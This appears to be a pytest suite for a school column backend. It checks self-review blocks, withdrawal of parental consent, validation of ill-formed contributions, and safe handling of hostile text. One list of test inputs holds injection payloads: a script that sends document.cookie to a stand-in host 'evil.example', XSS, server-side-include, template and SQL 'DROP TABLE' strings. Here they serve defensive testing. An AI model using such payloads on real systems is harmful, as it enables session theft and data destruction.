"""What somebody might try with the column: second roles, withdrawn consent, odd texts."""

from typing import Any
from uuid import UUID

import pytest

from backend import clock
from backend.column.models import ColumnItem, Placement
from backend.database import execute, fetch
from backend.people.models import Relation
from backend.people.operations import consents, ties
from seed.cast import Cast
from tests.column.desk import (
    MONDAY,
    Pocket,
    appear,
    approved,
    carry,
    ok,
    phones,
    refused,
    school_column,
    titles,
    written,
)
from tests.column.test_contributing import STORY, handed_in
from tests.column.test_telling import LATER
from tests.house import SignIn

YES: dict[str, Any] = {"approved": True, "revision": 1}


async def returned(as_: SignIn, cast: Cast, name: str = "王立强") -> str:
    """A contribution that came back from review; returns its id."""
    made = await handed_in(as_, cast, name)
    no = {"approved": False, "revision": 1, "reason": "请补充细节"}
    await ok((await as_("许建安")).put(f"/column/items/{made['id']}/review", json=no))
    return str(made["id"])


async def also_a_parent(cast: Cast, name: str) -> None:
    child = cast.children["李沐阳"]
    await ties.bind(cast.id(name), child.id, Relation.OTHER)
    await consents.accept(cast.id(name), child.id, child.school_id, 1, clock.now())


@pytest.mark.parametrize("name", ["许建安", "周慕云"])
async def test_no_second_role_lets_a_contributor_pass_their_own_words(
    as_: SignIn, cast: Cast, name: str
) -> None:
    await also_a_parent(cast, name)
    await school_column(as_, cast)
    made = await handed_in(as_, cast, name)
    editor, item = await as_(name), f"/column/items/{made['id']}"
    seen = await ok(editor.get(item))
    assert not seen["work"]["canReview"]
    await refused(editor.put(f"{item}/review", json=YES), 403, "own_review")
    text = {"title": "另一篇", "paragraphs": ["改写"], "kind": "experience"}
    await refused(editor.put(item, json=text), 409, "wrong_item_state")
    await ok(editor.put(f"{item}/submission"))
    await refused(editor.put(f"{item}/review", json=YES), 403, "own_review")
    assert (await ColumnItem.get(id=made["id"])).state == "in_review"


async def test_words_changed_by_two_editors_pass_neither_their_author_nor_the_last_of_them(
    as_: SignIn, cast: Cast
) -> None:
    column = await school_column(as_, cast)
    teacher, admin, head = await as_("林晓岚"), await as_("许建安"), await as_("周慕云")
    item = f"/column/items/{(await written(teacher, column))['id']}"
    body = {"title": "改过", "paragraphs": ["改过的文字"], "kind": "parenting"}
    await ok(admin.put(item, json=body))
    last = await ok(head.put(item, json=body))
    await ok(head.put(f"{item}/submission"))
    decision = {"approved": True, "revision": last["work"]["revision"]}
    await refused(head.put(f"{item}/review", json=decision), 403, "own_review")
    await refused(teacher.put(f"{item}/review", json=decision), 403, "not_allowed")
    await ok(admin.put(f"{item}/review", json=decision))


@pytest.mark.parametrize("until", ["in_review", "queued", "released"])
async def test_nothing_brings_back_what_its_writer_took_back(
    as_: SignIn, cast: Cast, until: str
) -> None:
    column = await school_column(as_, cast)
    made = await handed_in(as_, cast)
    admin, father, item = await as_("许建安"), await as_("王立强"), f"/column/items/{made['id']}"
    if until != "in_review":
        await approved(admin, made)
    if until == "released":
        await appear()
    await ok(father.delete(f"/me/column/contributions/{made['id']}/consent"), 204)
    for editor in (admin, await as_("周慕云")):
        await refused(editor.put(f"{item}/review", json=YES), 409, "wrong_item_state")
        await refused(editor.put(f"{item}/submission"), 409, "wrong_item_state")
        text = {"title": "另一篇", "paragraphs": ["改写"], "kind": "experience"}
        await refused(editor.put(item, json=text), 409, "wrong_item_state")
        await refused(editor.delete(item), 409, "wrong_item_state")
        queue = f"/column/series/{column}/queue/{made['id']}"
        await refused(editor.put(queue, json={"position": 1}), 404, "not_found")
        await ok(editor.put(f"{item}/withdrawal", json={"reason": "再撤一次"}))
    again = father.put(f"/me/column/contributions/{made['id']}", json=STORY)
    await refused(again, 409, "wrong_item_state")
    assert not await Placement.exists(item_id=made["id"], released_at=None)
    await appear(MONDAY)
    assert await titles(await as_("刘敏")) == []
    assert (await ColumnItem.get(id=made["id"])).state == "withdrawn"


async def test_nobody_is_rung_for_words_taken_back_before_the_post_went_out(
    as_: SignIn, cast: Cast
) -> None:
    await phones(cast, "刘敏", "李建国")
    await school_column(as_, cast)
    made = await handed_in(as_, cast)
    await approved(await as_("许建安"), made)
    await appear()
    await ok((await as_("王立强")).delete(f"/me/column/contributions/{made['id']}/consent"), 204)
    assert await carry(Pocket(), LATER) == []
    assert await fetch("SELECT person_id FROM column_told") == []


@pytest.mark.parametrize("ending", ["restricted = true", "valid_until = now()"])
async def test_whoever_is_guardian_no_longer_takes_back_but_hands_nothing_in(
    as_: SignIn, cast: Cast, ending: str
) -> None:
    await school_column(as_, cast)
    item, mother = await returned(as_, cast, "刘敏"), await as_("刘敏")
    await execute(f"UPDATE guardianships SET {ending} WHERE person_id = $1", cast.id("刘敏"))
    again = f"/me/column/contributions/{item}"
    await refused(mother.put(again, json=STORY), 404, "not_found")
    assert (await ColumnItem.get(id=item)).state == "draft"
    assert (await ok(mother.get(f"/column/items/{item}")))["paragraphs"] == STORY["paragraphs"]
    await ok(mother.delete(f"{again}/consent"), 204)


async def test_handing_in_again_needs_the_privacy_notice_too(as_: SignIn, cast: Cast) -> None:
    await school_column(as_, cast)
    item, father = await returned(as_, cast), await as_("王立强")
    await execute(
        "UPDATE consents SET withdrawn_at = now() WHERE person_id = $1", cast.id("王立强")
    )
    again = father.put(f"/me/column/contributions/{item}", json=STORY)
    await refused(again, 409, "privacy_notice_first")


async def test_a_column_that_has_ended_takes_no_text_back_either(as_: SignIn, cast: Cast) -> None:
    column = await school_column(as_, cast)
    item, father = await returned(as_, cast), await as_("王立强")
    await ok((await as_("许建安")).put(f"/column/series/{column}/state", json={"state": "ended"}))
    again = father.put(f"/me/column/contributions/{item}", json=STORY)
    await refused(again, 409, "no_column_here")
    assert (await ColumnItem.get(id=item)).state == "draft"


HOSTILE = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)//",
    "]]><!--#exec cmd='id'--><?php phpinfo();?>",
    "{{7*7}} ${7*7} #{7*7} %(x)s {0} %n%n",
    "'; DROP TABLE column_items; --",
]


async def test_texts_that_would_be_programs_elsewhere_are_texts_here(
    as_: SignIn, cast: Cast
) -> None:
    await school_column(as_, cast)
    made = await handed_in(as_, cast, title=HOSTILE[0][:60], paragraphs=HOSTILE)
    await approved(await as_("许建安"), made)
    await appear()
    reader = await as_("刘敏")
    for url in (f"/column/items/{made['id']}", "/column", "/column?q=script"):
        answer = await reader.get(url)
        assert answer.headers["content-type"].startswith("application/json")
        assert answer.headers["x-content-type-options"] == "nosniff"
    seen = (await reader.get(f"/column/items/{made['id']}")).json()
    assert (seen["paragraphs"], seen["title"]) == (HOSTILE, HOSTILE[0][:60])
    assert len((await reader.get("/column", params={"q": "DROP TABLE"})).json()["items"]) == 1


@pytest.mark.parametrize(
    "change",
    [
        {"title": "九点\u202e熄灯"},
        {"title": "九点\x00熄灯"},
        {"title": "字" * 61},
        {"paragraphs": ["a\u200bb"]},
        {"paragraphs": []},
        {"paragraphs": [""]},
        {"paragraphs": ["字" * 2001]},
        {"paragraphs": ["字"] * 61},
        {"attachmentIds": ["0196f3c2-0000-7000-8000-000000000000"] * 13},
        {"stages": ["primary"] * 5},
        {"stages": ["university"]},
        {"namedAs": "校长"},
        {"byline": "校长"},
        {"kind": "lecture"},
        {"consents": 1},
        {"namesNoPupil": "true"},
        {"declaration": True},
    ],
)
async def test_a_contribution_that_does_not_fit_is_not_taken(
    as_: SignIn, cast: Cast, change: dict[str, Any]
) -> None:
    await school_column(as_, cast)
    path = f"/schools/{cast.schools['海湾'].id}/column/contributions"
    answer = await (await as_("王立强")).post(path, json={**STORY, **change})
    assert answer.status_code == 400, answer.text
    assert await fetch("SELECT id FROM column_items") == []


async def test_a_title_of_several_lines_does_not_lead_the_search_astray(
    as_: SignIn, cast: Cast
) -> None:
    """Hits in the title are told by its line: a text must not slip words into it."""
    await school_column(as_, cast)
    made = await handed_in(as_, cast, title="第一行\n第二行", paragraphs=["熄灯\n熄灯"])
    await approved(await as_("许建安"), made)
    await appear()
    item = await ColumnItem.get(id=UUID(made["id"]))
    assert item.title == "第一行 第二行"
    assert item.folded.split("\n")[0] == "第一行 第二行"
